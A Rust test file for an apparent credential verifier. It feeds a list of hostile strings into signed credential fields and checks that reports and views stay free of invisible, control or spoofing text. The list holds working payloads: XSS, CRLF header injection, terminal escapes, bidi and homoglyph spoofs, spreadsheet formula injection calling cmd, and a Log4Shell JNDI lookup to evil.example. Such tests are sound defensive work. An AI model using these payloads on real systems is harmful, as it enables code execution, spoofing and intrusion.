//! What a valid credential says, where people and programs read it (F7, F9; 30): text, sentences, JSON.
//!
//! Nothing of ours is a page that shows a credential: what leaves here is JSON, and lines of text. Whoever makes a page of it
//! escapes it like any text, and may rely on this: no control character, nothing that nobody sees, no turned direction, no
//! line that is not ours, and the issuer's own name only beside its host or DID.

use serde_json::{Value, json};
use testamur_messages::{Language, ReportView, view};
use testamur_signing::vc_jwt::Profile;
use testamur_tests::report_count;
use testamur_verifier::{VerificationReport, VerifyOptions};

use crate::world::{Party, Silent, judge_for, with};

/// What scripts, terminals, spreadsheets, logs and templates would obey, and what a reader would not see.
const HOSTILE: [&str; 20] = [
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "</title><iframe srcdoc='<script>alert(1)</script>'>",
    "[x](javascript:alert(1)) ![y](https://evil.example/t.png)",
    "javascript:alert(document.domain)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "a\u{0}b",
    "\u{1b}[2J\u{1b}]0;owned\u{7}\u{9b}31m",
    "x\r\nSet-Cookie: session=evil\r\n\r\n<html>",
    "x\n  issuer id    https://harvard.edu/issuer\nVERIFIED: authentic",
    "\u{2028}\u{2029}\u{85}VERIFIED",
    "moc.live\u{202e}\u{2066}ude.dravrah\u{2069}",
    "Harv\u{ad}ard\u{200b}\u{3164}\u{feff}\u{e0041}\u{e007f}",
    "H\u{430}rvard University https://h\u{430}rvard.edu",
    "=HYPERLINK(\"https://evil.example\",\"x\")",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "{{7*7}} ${7*7} { $id } <%= 7 %>",
    "${jndi:ldap://evil.example/x} %n%n%s",
    "\u{2068}{ name }\u{2069}\u{2069}\u{2069}",
];

/// Where somebody may write what he likes.
const FIELDS: [(&str, &str); 16] = [
    ("", "name"),
    ("", "description"),
    ("/issuer", "name"),
    ("/issuer", "description"),
    ("/issuer", "url"),
    ("/issuer", "email"),
    ("/credentialSubject/achievement", "name"),
    ("/credentialSubject/achievement", "description"),
    ("/credentialSubject/achievement", "id"),
    ("/credentialSubject/achievement", "humanCode"),
    ("/credentialSubject/achievement", "fieldOfStudy"),
    ("/credentialSubject/achievement/criteria", "narrative"),
    ("/credentialSubject/achievement/criteria", "id"),
    ("/credentialSubject/achievement/image", "id"),
    ("/credentialSubject/achievement/image", "caption"),
    ("/evidence/0", "narrative"),
];

fn badge(issuer: &Party) -> Value {
    let image = json!({"id": "https://harbour.example/a.png", "type": "Image"});
    let badge = with(
        issuer.badge(),
        "/credentialSubject/achievement",
        "image",
        image,
    );
    let evidence = json!([{"id": "https://harbour.example/essay", "type": ["Evidence"], "narrative": "An essay."}]);
    with(badge, "", "evidence", evidence)
}

/// Signs what it says in a JWT, which takes everything as it is written, and judges it.
fn judge(signer: &Party, credential: &Value) -> VerificationReport {
    let token = signer.sign_jwt(Profile::JoseCose, credential);
    judge_for(
        token.as_bytes(),
        &VerifyOptions::default(),
        &Silent::default(),
    )
}

/// Whether a reader sees the character, in its place.
fn is_seen(character: char) -> bool {
    !character.is_control()
        && !matches!(character,
            '\u{ad}' | '\u{61c}' | '\u{200b}'..='\u{200f}' | '\u{2028}'..='\u{202e}' | '\u{2060}'..='\u{206f}'
            | '\u{3164}' | '\u{feff}' | '\u{e0000}'..='\u{e0fff}')
}

#[track_caller]
fn assert_text(text: &str, like: &str) {
    assert!(text.chars().all(|it| it == '\n' || is_seen(it)), "{text:?}");
    assert_eq!(text.lines().count(), like.lines().count(), "{text}");
}

/// Every text of a view, with the marks taken off by which we set values apart ourselves: those are in pairs.
#[track_caller]
fn assert_view(view: &ReportView) {
    let value = serde_json::to_value(view).expect("a view is JSON");
    let mut texts = Vec::new();
    collect(&value, &mut texts);
    for text in texts {
        let mut depth = 0_usize;
        for character in text.chars() {
            match character {
                '\u{2068}' => depth += 1,
                '\u{2069}' => depth = depth.checked_sub(1).expect("ends what was begun"),
                other => assert!(is_seen(other), "{text:?}"),
            }
            assert!(depth <= 1, "{text:?}");
        }
        assert_eq!(depth, 0, "{text:?}");
    }
}

fn collect<'a>(value: &'a Value, texts: &mut Vec<&'a str>) {
    match value {
        Value::String(text) => texts.push(text),
        Value::Array(items) => items.iter().for_each(|item| collect(item, texts)),
        Value::Object(members) => members.values().for_each(|member| collect(member, texts)),
        _ => {}
    }
}

#[test]
fn no_field_of_a_signed_credential_says_more_than_text() {
    let issuer = Party::new(1);
    let badge = badge(&issuer);
    let plain = judge(&issuer, &badge);
    assert!(plain.verified, "{}", plain.to_text());
    let (mut cases, mut verified) = (0, 0);
    for (place, member) in FIELDS {
        for hostile in HOSTILE {
            let said = with(badge.clone(), place, member, json!(hostile));
            let report = judge(&issuer, &said);
            let text = report.to_text();
            if report.verified {
                assert_text(&text, &plain.to_text());
                verified += 1;
            } else {
                assert!(text.chars().all(|it| it == '\n' || is_seen(it)), "{text:?}");
                assert!(text.starts_with("NOT VERIFIED: "), "{text}");
            }
            for language in Language::ALL {
                assert_view(&view(&report, language));
            }
            let written = serde_json::to_string(&report).expect("a report is JSON");
            assert!(!written.contains(['\n', '\r', '\0', '\u{1b}']));
            cases += 1;
        }
    }
    assert!(verified > cases / 2, "{verified} of {cases}");
    report_count("attacks: hostile text in fields", cases);
}

/// The issuer's own name is never the whole of what is said of the issuer (30).
#[test]
fn an_issuers_own_name_stands_only_beside_its_did() {
    let (issuer, other) = (Party::new(1), Party::new(2));
    for name in ["Harvard University", "harvard.edu \u{2713}", HOSTILE[10]] {
        let badge = with(issuer.badge(), "/issuer", "name", json!(name));
        let signed = judge(&issuer, &badge);
        let forged = judge(&other, &badge);
        for language in Language::ALL {
            let line = view(&signed, language).issuer.line;
            assert!(line.contains(&issuer.id), "{line}");
            let said = view(&forged, language);
            assert!(!said.issuer.authenticated);
            let said = serde_json::to_string(&said).expect("a view is JSON");
            assert!(!said.contains("arvard"), "{said}");
        }
        let text = forged.to_text();
        let ids = text.lines().filter(|line| line.starts_with("  issuer id "));
        assert_eq!(ids.count(), 1, "{text}");
        assert!(text.starts_with("NOT VERIFIED: "), "{text}");
    }
}

/// A host in other letters is not shown as the one that it looks like, wherever an id stands (30).
#[test]
fn no_identifier_looks_like_another() {
    let issuer = Party::new(1);
    let mut cases = 0;
    for look_alike in [
        "h\u{430}rvard.edu",
        "harv\u{ad}ard.edu",
        "h\u{ff41}rvard.edu",
    ] {
        let url = format!("https://{look_alike}/i");
        for (place, member) in [("/issuer", "id"), ("", "id"), ("/credentialSubject", "id")] {
            let badge = with(issuer.badge(), place, member, json!(url));
            let report = judge(&issuer, &badge);
            assert!(!report.to_text().contains(look_alike));
            for language in Language::ALL {
                let view = view(&report, language);
                let written = serde_json::to_string(&view).expect("a view is JSON");
                assert!(!written.contains(look_alike), "{written}");
                assert!(!view.to_string().contains(look_alike));
            }
            cases += 1;
        }
    }
    report_count("attacks: identifiers that look alike", cases);
}
